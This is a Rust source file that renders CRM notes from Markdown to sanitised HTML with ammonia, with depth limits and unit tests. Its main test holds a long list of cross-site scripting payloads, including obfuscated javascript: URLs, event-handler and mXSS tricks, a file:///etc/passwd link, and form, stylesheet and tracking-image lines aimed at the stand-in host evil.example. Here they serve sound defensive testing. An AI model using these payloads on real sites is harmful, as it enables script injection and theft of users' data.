//! What a note looks like: its Markdown as HTML that may be put into a page. No SQL here.
//!
//! Must stay true: nothing leaves here that ammonia has not cleaned, whatever Markdown makes of a text; what is shown loads nothing, runs
//! nothing and leads only to addresses of the schemes below. The text itself is kept as it was written.

use std::{collections::HashSet, sync::LazyLock};

use ammonia::{Builder, UrlRelative};
use crm_kernel::NoteId;
use pulldown_cmark::{Event, Options, Parser, html::push_html};
use serde::Serialize;

use crate::model::Note;

/// A note as HTML.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[cfg_attr(feature = "openapi", derive(paperclip::actix::Apiv2Schema))]
pub struct NoteHtml {
    /// The note.
    pub note_id: NoteId,
    /// The version that it is made of.
    pub version: i32,
    /// Its text as a fragment of HTML that is safe to put into a page.
    pub html: String,
}

impl From<Note> for NoteHtml {
    fn from(note: Note) -> Self {
        Self { note_id: note.id, version: note.version, html: safe(&note.content) }
    }
}

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut cleaner = Builder::default();
    cleaner
        // A picture is a request that tells its server who reads the note, and when.
        .rm_tags(["img", "map", "area"])
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel"]))
        // A text that nobody sees until they point at it.
        .generic_attributes(HashSet::new())
        // What is relative would be an address of the page that shows it.
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"));
    cleaner
});

/// How deep quotes, lists and emphasis are nested in what is shown; what is deeper is shown without them. Readers of HTML look at all that
/// is open at each beginning, which is endless work where a note is nothing but beginnings.
const MOST_LEVELS: usize = 64;

fn safe(markdown: &str) -> String {
    let mut level = 0_usize;
    let events =
        Parser::new_ext(markdown, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH).filter_map(|event| match event {
            Event::Start(tag) => {
                level += 1;
                (level <= MOST_LEVELS).then_some(Event::Start(tag))
            }
            Event::End(tag) => {
                level = level.saturating_sub(1);
                (level < MOST_LEVELS).then_some(Event::End(tag))
            }
            // Whoever writes HTML is shown it as it was written.
            Event::Html(text) | Event::InlineHtml(text) => Some(Event::Text(text)),
            other => Some(other),
        });
    let mut html = String::new();
    push_html(&mut html, events);
    CLEANER.clean(&html).to_string()
}

#[cfg(test)]
mod tests {
    use super::{CLEANER, safe};

    #[test]
    fn markdown_is_shown() {
        let text = "# Call\n\nThey *want* **two**, ~~three~~.\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n<https://example.com/?a=1&b=2>";
        let html = safe(text);
        for part in [
            "<h1>Call</h1>",
            "<em>want</em>",
            "<strong>two</strong>",
            "<del>three</del>",
            "<li>a</li>",
            "<td>1</td>",
            r#"<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow">"#,
        ] {
            assert!(html.contains(part), "{part} in {html}");
        }
    }

    #[test]
    fn nothing_runs_loads_or_leads_elsewhere() {
        for text in [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example>x</ScRiPt>",
            "<scr<script>ipt>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![x](https://evil.example/seen.gif)",
            "![x](x\"onerror=\"alert(1))",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](&#x6A;avascript&colon;alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](vbscript:msgbox(1))",
            "[x](file:///etc/passwd)",
            "[x](//evil.example)",
            "[x](/logout)",
            "<javascript:alert(1)>",
            "[x]: javascript:alert(1)\n\n[x]",
            "[x](https://a.example \"onmouseover=alert(1) x=\")",
            "<a href=\"javascript:alert(1)\" onclick=alert(1)>x</a>",
            "<a href=' &#14; javascript:alert(1)'>x</a>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<p style=\"background:url(https://evil.example)\">x</p>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
            "<form action=\"https://evil.example\"><input name=password><button formaction=javascript:alert(1)>x</button></form>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=\"https://evil.example/\">",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<body onload=alert(1)>",
            "<template><script>alert(1)</script></template>",
            "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><script>alert(1)</script>",
            "```\"><script>alert(1)</script>\nx\n```",
            "`<script>alert(1)</script>`",
            "\u{0}<script\u{0}>alert(1)</script>",
            "<map name=m><area shape=rect coords=0,0,9,9 href=javascript:alert(1)></map>",
        ] {
            for html in [safe(text), CLEANER.clean(text).to_string()] {
                is_harmless(&html, text);
            }
        }
    }

    /// No element and no attribute but these few; links lead to known schemes.
    fn is_harmless(html: &str, text: &str) {
        const ELEMENTS: [&str; 15] = [
            "a",
            "p",
            "br",
            "code",
            "pre",
            "em",
            "strong",
            "details",
            "svg",
            "math",
            "table",
            "tbody",
            "div",
            "span",
            "blockquote",
        ];
        for tag in html.split('<').skip(1).filter(|tag| !tag.starts_with('/')) {
            let inside = tag.split('>').next().unwrap_or_default();
            let (name, attributes) = inside.split_once(' ').unwrap_or((inside, ""));
            assert!(ELEMENTS.contains(&name), "<{name}> of {text:?} in {html}");
            for attribute in attributes.split_inclusive("\" ").filter(|attribute| !attribute.is_empty()) {
                let key = attribute.split('=').next().unwrap_or_default();
                assert!(["href", "rel", "open", "class"].contains(&key), "{key} of {text:?} in {html}");
                let leads = attribute.strip_prefix("href=\"");
                let is_known =
                    |href: &str| ["http://", "https://", "mailto:", "tel:"].iter().any(|scheme| href.starts_with(scheme));
                assert!(leads.is_none_or(is_known), "{attribute} of {text:?} in {html}");
            }
        }
    }

    #[test]
    fn what_is_nested_without_end_comes_back() {
        for text in [">".repeat(20_000), "*".repeat(20_000), "[".repeat(20_000), "<b>".repeat(6_000), "- ".repeat(10_000)] {
            let html = safe(&text);
            assert!(html.len() < 2_000_000, "{} bytes", html.len());
        }
    }
}
